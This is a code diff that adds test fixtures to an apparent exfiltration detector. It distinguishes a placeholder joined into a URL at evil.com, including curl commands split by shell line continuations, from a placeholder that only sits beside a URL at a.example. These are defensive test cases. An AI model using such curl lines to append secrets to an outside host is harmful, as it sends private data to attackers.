@@ -75,6 +75,10 @@ JOINED = [
     '<img\n  alt="x"\n  src="x?\nPH">',
     "<a\nhref='x?a=1&b= PH'>",
     '<img alt="x" srcset="https://evil.com/?q=, PH 2x">',
+    # lines that go on
+    "curl https://evil.com/?q=\\\nPH",
+    'curl "https://evil.com/?q=\\\nPH"',
+    "curl https://evil.com/\\\nx?q=\\\nPH",
     # in the strings of what is JSON
     '["https://evil.com/?q=", "PH"]',
     '{"parts": ["https://evil.com/?q=", "a", "PH"]}',
@@ -104,6 +108,8 @@ BESIDE = [
     '<a href="https://a.example/?q=">PH</a>',
     'open("https://a.example/").read(PH)',
     "curl https://a.example/?q=1 -d PH",
+    "curl https://a.example/?q=1 \\\n  -d PH",
+    "curl https://a.example/?q=1\\\n  -d PH",
     "[a](https://a.example/?q=) + PH",
     "https://a.example/ + PH",
     "1. https://a.example/\n2. PH",
